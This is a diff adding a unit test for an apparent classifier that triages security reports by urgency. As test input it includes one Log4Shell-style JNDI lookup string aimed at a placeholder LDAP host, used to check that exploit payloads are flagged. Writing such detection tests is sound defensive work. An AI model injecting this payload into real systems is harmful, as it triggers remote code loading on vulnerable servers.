@@ -154,3 +154,12 @@ def test_leaving_a_project_out_never_fits_on_it() -> None:
     assert result.pooled().reports == 600 and 0.0 <= result.ece <= 1.0
     scaled = fit_scorer(DIRECTION, embeddings, texts)
     assert scaled.similarity_std > 0 and scaled.vocabulary_std > 0
+
+
+def test_a_published_cve_alone_files_privately_but_is_not_urgent() -> None:
+    upgrade = decide_security(SCORER, CALIBRATION, BANDS, "Bump jackson for CVE-2020-1234", unit(0))
+    assert upgrade.band is SecurityBand.PRIVATE and not upgrade.urgent
+    payload = "Logged ${jndi:ldap://x/a} as in CVE-2021-44228"
+    assert decide_security(SCORER, CALIBRATION, BANDS, payload, unit(0)).urgent
+    assert decide_security(SCORER, CALIBRATION, BANDS, "Menu", unit(0.7)).urgent  # the score
+    assert not decide_security(SCORER, CALIBRATION, BANDS, "XSS here", unit(0)).urgent
